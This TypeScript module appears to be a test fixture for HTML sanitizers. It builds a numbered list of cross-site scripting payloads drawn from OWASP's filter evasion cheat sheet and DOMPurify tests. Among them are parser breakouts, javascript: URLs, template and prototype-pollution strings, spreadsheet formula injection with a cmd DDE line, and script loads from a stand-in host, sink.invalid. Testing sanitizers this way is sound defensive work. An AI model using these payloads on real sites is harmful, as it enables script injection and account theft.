/**
 * Words that would run as a program where a page takes text for HTML, for an address, for a style or for a script. What
 * runs calls `xss(n)`. Sources of the forms: OWASP, Cross Site Scripting Filter Evasion Cheat Sheet; WHATWG HTML Living
 * Standard 13.2 (what the parser makes of them); MathML and SVG forms after the tests of DOMPurify.
 */

/** How text may break out of what it stands in, before the form itself. */
const BREAKOUTS = ['', '">', "'>", '</script>', '</title></textarea></style>', '--><!---->', ']]>']

const FORMS: readonly string[] = [
  '<script>CALL</script>',
  '<img src=x onerror=CALL>',
  '<svg onload=CALL>',
  '<svg><script>CALL</script></svg>',
  '<svg><animate onbegin=CALL attributeName=x dur=1s>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.CALL</script>"></iframe></foreignObject></svg>',
  '<iframe srcdoc="<script>parent.CALL</script>"></iframe>',
  '<iframe src="javascript:parent.CALL"></iframe>',
  '<body onload=CALL>',
  '<input autofocus onfocus=CALL>',
  '<details open ontoggle=CALL>',
  '<video><source onerror=CALL></video>',
  '<audio src=x onerror=CALL>',
  '<object data="javascript:CALL"></object>',
  '<embed src="javascript:CALL">',
  '<math><mtext><img src=x onerror=CALL></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=CALL></annotation-xml></math>',
  '<template><script>CALL</script></template><img src=x onerror=CALL>',
  '<noscript><p title="</noscript><img src=x onerror=CALL>">',
  '<style>@import "javascript:CALL";</style>',
  '<link rel=stylesheet href="javascript:CALL">',
  '<meta http-equiv=refresh content="0;url=javascript:CALL">',
  '<base href="javascript:CALL//">',
  '<form><button formaction="javascript:CALL">go</button></form>',
  '<a href="javascript:CALL" autofocus onfocus=CALL>go</a>',
  '<marquee onstart=CALL>go</marquee>',
]

/** Forms that stand alone: in an address, an attribute, a template, a cell, a script, or dressed up by coding. */
const ALONE: readonly string[] = [
  'javascript:CALL',
  'JaVaScRiPt:CALL',
  'java\tscript:CALL',
  ' javascript:CALL',
  'javascript://%0aCALL',
  'data:text/html,<script>parent.CALL</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKDEpPC9zY3JpcHQ+',
  'vbscript:CALL',
  'blob:null/CALL',
  '//sink.invalid/CALL',
  '" autofocus onfocus=CALL x="',
  "' autofocus onfocus=CALL x='",
  '` onmouseover=CALL',
  '"-CALL-"',
  "'-CALL-'",
  '\\"-CALL//',
  "\\'-CALL//",
  '${CALL}',
  '{{constructor.constructor("CALL")()}}',
  '#{CALL}',
  '<%= CALL %>',
  '[[${CALL}]]',
  '{name, select, other {<img src=x onerror=CALL>}}',
  '&lt;img src=x onerror=CALL&gt;',
  '&#60;img src=x onerror=CALL&#62;',
  '%3Cimg%20src%3Dx%20onerror%3DCALL%3E',
  '\\u003cimg src=x onerror=CALL\\u003e',
  '<IMG SRC=x ONERROR=CALL>',
  '<img/src=x/onerror=CALL>',
  '<img src=x onerror\n=\nCALL>',
  '<scr<script>ipt>CALL</scr</script>ipt>',
  '<<script>CALL//<</script>',
  '<script src=//sink.invalid/CALL></script>',
  '<img src=//sink.invalid/CALL>',
  '<svg><image href=//sink.invalid/CALL>',
  '<?xml-stylesheet href="javascript:CALL"?>',
  '<!DOCTYPE x [<!ENTITY y "CALL">]>&y;',
  '<![CDATA[<script>CALL</script>]]>',
  '=HYPERLINK("javascript:CALL","go")',
  '@SUM(1)*CALL',
  '+CALL',
  '-CALL',
  "=cmd|' /C CALL'!A0",
  '__proto__[x]=CALL',
  'constructor.prototype.x=CALL',
  '[go](javascript:CALL)',
  '![x](javascript:CALL)',
  '\u202e<img src=x onerror=CALL>\u202c',
  '\u200b<script>\u200bCALL</script>',
  '<img src=x onerror=CALL><!-- Najin',
]

/** All of them, each with its own number in `xss(n)`. */
export const PAYLOADS: readonly string[] = [
  ...BREAKOUTS.flatMap((breakout) => FORMS.map((form) => breakout + form)),
  ...ALONE,
].map((form, at) => form.replaceAll('CALL', `xss(${at})`))
